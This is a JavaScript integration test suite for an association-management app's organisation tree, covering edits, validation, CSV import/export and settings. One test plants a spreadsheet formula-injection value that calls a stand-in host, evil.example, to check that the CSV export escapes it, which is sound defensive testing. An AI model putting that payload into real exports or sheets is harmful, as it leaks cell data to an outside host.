// SPDX-FileCopyrightText: 2026 Verband contributors
// SPDX-License-Identifier: AGPL-3.0-or-later

import assert from 'node:assert/strict'
import { before, test } from 'node:test'
import { api, authorization, baseUrl, expectStatus } from './client.mjs'

const ADMIN = 'admin'
let tree
let bezirk
const code = (name) => `t-${name}-${Date.now().toString(36)}`
const make = async (more = {}) => (await expectStatus(201, ADMIN, 'POST', '/gliederungen', { body: { kind: 'kreisverband', parentId: bezirk.id, code: code('kv'), name: 'Kreisverband Test', shortName: 'KV T', ...more } })).data
const remove = async (id) => expectStatus(200, ADMIN, 'DELETE', `/gliederungen/${id}`, { headers: { 'If-Match': '*' } })
const base64 = (text) => Buffer.from(text).toString('base64')

before(async () => {
	tree = (await expectStatus(200, ADMIN, 'GET', '/gliederungen')).data
	bezirk = tree.find((one) => one.kind === 'bezirk')
})

test('the tree is whole, parents before children', () => {
	const seen = new Set()
	for (const one of tree) {
		assert.ok(one.parentId === null || seen.has(one.parentId), one.name)
		seen.add(one.id)
	}
	const count = (...kinds) => tree.filter((one) => kinds.includes(one.kind)).length
	assert.deepEqual([count('landesverband'), count('bezirk'), count('unterbezirk', 'kreisverband')], [1, 4, 44])
})

test('only admins are told the member groups', async () => {
	assert.ok('memberGroup' in tree[0])
	for (const account of ['mitglied', 'lv-vorsitz']) {
		const { data } = await expectStatus(200, account, 'GET', '/gliederungen')
		assert.ok(data.every((one) => !('memberGroup' in one)), account)
	}
})

test('an admin adds, changes and removes; two admins do not overwrite one another', async () => {
	const made = await make()
	const changed = (await expectStatus(200, ADMIN, 'PUT', `/gliederungen/${made.id}`, { body: { name: 'Neu' }, headers: { 'If-Match': made.etag } })).data
	assert.deepEqual([changed.name, changed.shortName], ['Neu', 'KV T'])
	const late = await expectStatus(412, ADMIN, 'PUT', `/gliederungen/${made.id}`, { body: { name: 'Alt' }, headers: { 'If-Match': made.etag } })
	assert.deepEqual([late.data.error, late.data.current.name], ['conflict', 'Neu'])
	await expectStatus(428, ADMIN, 'PUT', `/gliederungen/${made.id}`, { body: { name: 'Alt' } })
	await remove(made.id)
	await expectStatus(404, ADMIN, 'GET', `/gliederungen/${made.id}`)
})

test('a tree has no circles, one top and no two of one code', async () => {
	const made = await make()
	const put = (id, body) => api(ADMIN, 'PUT', `/gliederungen/${id}`, { body, headers: { 'If-Match': '*' } })
	assert.deepEqual((await put(bezirk.id, { parentId: made.id })).data, { error: 'cyclic-tree', field: 'parentId' })
	assert.deepEqual((await put(made.id, { parentId: made.id })).data, { error: 'cyclic-tree', field: 'parentId' })
	assert.deepEqual((await put(made.id, { parentId: 2147483648 })).data, { error: 'unknown-gliederung', field: 'parentId' })
	const twice = await api(ADMIN, 'POST', '/gliederungen', { body: { kind: 'kreisverband', parentId: bezirk.id, code: made.code, name: 'x', shortName: 'x' } })
	assert.equal(twice.data.error, 'duplicate')
	assert.equal((await api(ADMIN, 'DELETE', `/gliederungen/${bezirk.id}`, { headers: { 'If-Match': '*' } })).data.error, 'has-children')
	await remove(made.id)
})

test('malformed fields are 400 with field and code', async () => {
	const made = await make()
	for (const [body, field] of [[{ name: '' }, 'name'], [{ name: 7 }, 'name'], [{ name: 'x'.repeat(201) }, 'name'], [{ code: 'Ä B' }, 'code'], [{ color: 'red' }, 'color'], [{ pattern: 'x' }, 'pattern'], [{ kind: 'ortsverein' }, 'kind'], [{ contactPersonId: 2147483648 }, 'contactPersonId'], [{ place: 'a\u0000b' }, 'place']]) {
		const answer = await api(ADMIN, 'PUT', `/gliederungen/${made.id}`, { body, headers: { 'If-Match': '*' } })
		assert.deepEqual([answer.status, answer.data.field], [400, field], JSON.stringify(body).slice(0, 80))
	}
	await remove(made.id)
})

test('one to three equal chairs, a fourth is refused; ending keeps history', async () => {
	const made = await make()
	const chair = (name, more = {}) => api(ADMIN, 'POST', `/gliederungen/${made.id}/offices`, { body: { name, role: 'chair', from: '2026-01-01', ...more } })
	const offices = []
	for (const name of ['Eins', 'Zwei', 'Drei']) {
		offices.push((await chair(name)).data)
	}
	assert.deepEqual([(await chair('Vier')).status, (await chair('Vier')).data.error], [409, 'too-many-chairs'])
	await expectStatus(200, ADMIN, 'PUT', `/offices/${offices[0].id}`, { body: { until: '2026-02-01' }, headers: { 'If-Match': offices[0].etag } })
	assert.equal((await chair('Vier', { from: '2026-02-02' })).status, 201)
	const shown = (await expectStatus(200, 'mitglied', 'GET', `/gliederungen/${made.id}`)).data
	assert.deepEqual(shown.offices.filter((one) => !one.current).map((one) => one.person.name), ['Eins'])
	assert.equal(shown.gliederung.chairs.length, 3)
	await remove(made.id)
})

test('a CSV file is looked at first, applied once, and changes nothing the second time', async () => {
	const own = code('csv')
	const csv = base64(`\ufeffKürzel;Art;Name;Kurzname;Gehört zu;Ort\r\n${own};kreisverband;Kreisverband Würme;KV W;${bezirk.code};Würme\r\n`)
	const plan = (await expectStatus(200, ADMIN, 'POST', '/import/preview', { body: { csv } })).data
	assert.deepEqual([plan.errors, plan.changes.map((one) => [one.row, one.action, one.name])], [[], [[2, 'add', 'Kreisverband Würme']]])
	assert.ok(!(await api(ADMIN, 'GET', '/gliederungen')).data.some((one) => one.code === own), 'nothing is written by looking')
	await expectStatus(409, ADMIN, 'POST', '/import/apply', { body: { csv, plan: 'x' } })
	assert.equal((await expectStatus(200, ADMIN, 'POST', '/import/apply', { body: { csv, plan: plan.plan } })).data.added, 1)
	const again = (await expectStatus(200, ADMIN, 'POST', '/import/preview', { body: { csv } })).data
	assert.deepEqual(again.changes.map((one) => one.action), ['leave'])
	await remove((await api(ADMIN, 'GET', '/gliederungen')).data.find((one) => one.code === own).id)
})

test('files that are none, or too large, are refused whole', async () => {
	for (const csv of [base64('x'.repeat(10 * 1024 * 1024)), base64(''), '%%%', base64('a;b\n1;2\n'), base64('\u0000\u0001')]) {
		const answer = await api(ADMIN, 'POST', '/import/preview', { body: { csv } })
		assert.ok(answer.status === 400 || answer.data.errors.length > 0, `${answer.status} ${answer.text.slice(0, 200)}`)
	}
	const bad = base64(`code;kind;name;short_name;parent\n${code('a')};kreisverband;A;A;gibt-es-nicht\n${code('b')};verein;B;B;${bezirk.code}\n`)
	const plan = (await expectStatus(200, ADMIN, 'POST', '/import/preview', { body: { csv: bad } })).data
	assert.deepEqual(plan.errors.map((one) => one.row), [2, 3])
	await expectStatus(409, ADMIN, 'POST', '/import/apply', { body: { csv: bad, plan: plan.plan } })
	assert.equal((await api(ADMIN, 'GET', '/gliederungen')).data.length, tree.length)
})

test('C2 the export is safe for spreadsheets and imports without a change', async () => {
	const made = await make({ name: '=HYPERLINK("http://evil.example?"&A1)', place: '+1', stop: '@SUM(1)' })
	const response = await fetch(`${baseUrl}/index.php/apps/verband/export/gliederungen.csv`, { headers: { Authorization: await authorization(ADMIN) } })
	const csv = await response.text()
	assert.equal(response.status, 200)
	assert.doesNotMatch(csv, /(^|;)"?[=+@]/m)
	const plan = (await expectStatus(200, ADMIN, 'POST', '/import/preview', { body: { csv: base64(csv) } })).data
	assert.deepEqual([plan.errors, [...new Set(plan.changes.map((one) => one.action))]], [[], ['leave']])
	await remove(made.id)
	const member = await fetch(`${baseUrl}/index.php/apps/verband/export/gliederungen.csv`, { headers: { Authorization: await authorization('mitglied') }, redirect: 'manual' })
	assert.equal(member.status, 403)
})

test('settings are the admins\', checked field by field', async () => {
	const before = (await expectStatus(200, ADMIN, 'GET', '/settings')).data
	for (const [body, field] of [[{ timeZone: 'Mars/Base' }, 'timeZone'], [{ kinds: [{ id: 'party', enabled: true }] }, 'kinds'], [{ bezirkHelps: 'yes' }, 'bezirkHelps'], [{ adminGroup: 5 }, 'adminGroup']]) {
		const { status, data } = await api(ADMIN, 'PUT', '/settings', { body, headers: { 'If-Match': '*' } })
		assert.equal(status, 400)
		assert.ok(data.field.startsWith(field), data.field)
	}
	const changed = (await expectStatus(200, ADMIN, 'PUT', '/settings', { body: { bezirkHelps: !before.bezirkHelps }, headers: { 'If-Match': before.etag } })).data
	assert.equal(changed.bezirkHelps, !before.bezirkHelps)
	await expectStatus(412, ADMIN, 'PUT', '/settings', { body: { bezirkHelps: true }, headers: { 'If-Match': before.etag } })
	await expectStatus(200, ADMIN, 'PUT', '/settings', { body: { bezirkHelps: before.bezirkHelps }, headers: { 'If-Match': changed.etag } })
})

test('the check names what is not in order and can be repeated', async () => {
	const report = (await expectStatus(200, ADMIN, 'GET', '/check')).data
	assert.ok(report.problems.some((one) => one.code === 'vacancy' && one.count === 3))
	await expectStatus(200, ADMIN, 'POST', '/check/reconcile', { body: {} })
	const after = (await expectStatus(200, ADMIN, 'POST', '/check/reconcile', { body: {} })).data
	assert.deepEqual(after.differences.filter((one) => one.group.startsWith('verband-')), [])
})
